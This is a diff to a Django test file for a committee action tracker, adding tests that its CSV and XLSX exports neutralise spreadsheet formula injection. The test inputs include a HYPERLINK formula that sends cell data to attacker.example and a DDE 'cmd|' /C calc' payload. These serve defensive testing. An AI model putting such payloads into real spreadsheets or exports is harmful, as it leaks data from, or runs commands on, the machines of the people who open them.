@@ -2,14 +2,22 @@
 never hand a spreadsheet a formula, a date nobody can plan is a 400 and not a 500, the API
 cache never answers one reader with another's page, and a calendar address can be revoked."""
 
+import csv
+import datetime as dt
+import io
+
 import pytest
 from django.core.cache import cache
 from django.test import RequestFactory, override_settings
+from openpyxl import load_workbook
 from rest_framework.test import APIClient
 from rest_framework.throttling import SimpleRateThrottle
 
+from tests import test_pages_support as support
 from tests.test_settings import refusal, setting, start
 from tracker.throttles import client_address
+
+clock, sam, world = support.clock, support.sam, support.world
 
 # --- Rate limits count the client, not what it claims in X-Forwarded-For ------------------
 
@@ -139,3 +147,82 @@ def test_an_unusable_trusted_proxy_count_stops_the_start(tmp_path, value, messag
     env = {"DEBUG": "1", "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}"}
     result = start("-c", "import django; django.setup()", **env, TRUSTED_PROXY_COUNT=value)
     assert refusal(result) == f"django.core.exceptions.ImproperlyConfigured: {message}"
+
+
+# --- Exports hand a spreadsheet text, never a formula ----------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&D4,"x")'
+
+
+@pytest.fixture
+def booby_trapped(world, dev):
+    """Dev's progress update on the March figures reads as a formula to a spreadsheet."""
+    from actions.progress import record_update
+
+    record_update(world["figures"], text=HYPERLINK, rag="AMBER", by=dev.user)
+    return world
+
+
+def tracker_row(rows, reference):
+    return next(row for row in rows if row[0] == reference)
+
+
+def test_the_csv_export_writes_a_formula_like_update_as_quoted_text(client, booby_trapped):
+    response = client.get("/committees/childrens-services/tracker.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = tracker_row(rows, "CS (17/18) A02")
+    assert row[8] == "'" + HYPERLINK
+    assert row[9] == "2018-01-22"  # dates we write ourselves are untouched
+
+
+def test_the_xlsx_export_writes_a_formula_like_update_as_a_string_cell(client, booby_trapped):
+    response = client.get("/committees/childrens-services/tracker.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    update = sheet["I4"]
+    assert sheet["A4"].value == "CS (17/18) A02"
+    assert update.value == "'" + HYPERLINK
+    assert update.data_type == "s"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    # Numbers and dates we write ourselves stay numbers and dates.
+    assert sheet["B4"].value == dt.datetime(2017, 12, 12) and sheet["B4"].is_date
+    assert sheet["J4"].value == dt.datetime(2018, 1, 22) and sheet["J4"].is_date
+    assert sheet["K3"].value == 12 and sheet["K3"].data_type == "n"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_export_neutralises_text_a_spreadsheet_would_interpret(client, world, start):
+    action = world["figures"]
+    action.title = f"{start}1+1 cmd|' /C calc'!A0"
+    action.save()
+    expected = f"'{start}1+1 cmd|' /C calc'!A0"
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get("/committees/childrens-services/tracker.csv").content.decode(
+                    "utf-8-sig"
+                ),
+                newline="",
+            )
+        )
+    )
+    assert tracker_row(rows, "CS (17/18) A02")[3] == expected
+    sheet = load_workbook(
+        io.BytesIO(client.get("/committees/childrens-services/tracker.xlsx").content)
+    ).active
+    # XML reads a carriage return back as a line feed; what matters is the leading quote.
+    assert sheet["D4"].value == expected.replace("\r", "\n") and sheet["D4"].data_type == "s"
+
+
+def test_ordinary_text_is_exported_as_written(client, world):
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get("/committees/childrens-services/tracker.csv").content.decode("utf-8-sig")
+            )
+        )
+    )
+    assert tracker_row(rows, "CS (17/18) A02")[3:6] == [
+        "Report recruitment figures for foster carers",
+        "Dev Okafor",
+        "Meeting of 13 March 2018",
+    ]
